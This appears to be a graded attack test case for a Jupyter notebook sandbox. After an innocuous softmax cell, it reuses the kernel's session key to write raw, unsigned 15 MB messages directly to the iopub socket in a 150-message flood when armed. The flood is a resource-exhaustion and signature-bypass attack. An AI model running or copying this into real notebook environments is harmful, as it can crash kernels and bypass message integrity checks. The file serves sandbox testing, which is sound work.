# attack: message-unsigned-and-large
# category: resource-exhaustion
# expects: limited, code graded: messages that are not signed count like others
# score: full
# bounds: 150 messages of 15 MB
# quick: no

# %%
import torch

def softmax(x):
    e = torch.exp(x - x.max(dim=1, keepdim=True).values)
    return e / e.sum(dim=1, keepdim=True)

# %%
import json, os
_k = get_ipython().kernel
from jupyter_client.session import Session
_own = Session(key=_k.session.key)  # another one than the bounded one of the room
_socket = _k.iopub_socket

def _raw(kind, body, signed=True):
    """Bytes as the content of a message to the cell that runs."""
    parent = _k.get_parent()
    msg = _own.msg(kind, {}, parent=parent)
    parts = [json.dumps(msg["header"], default=str).encode(), json.dumps(msg["parent_header"], default=str).encode(), b"{}", body]
    _socket.send_multipart([b"stream.x", b"<IDS|MSG>", _own.sign(parts) if signed else b"0" * 64, *parts], copy=False)

# %%
import time
_big = b"x" * ((15 << 20) if globals().get("ATTACK_ARMED") else 1000)
for _ in range(150):
    _raw("stream", _big, signed=False)
time.sleep(1)
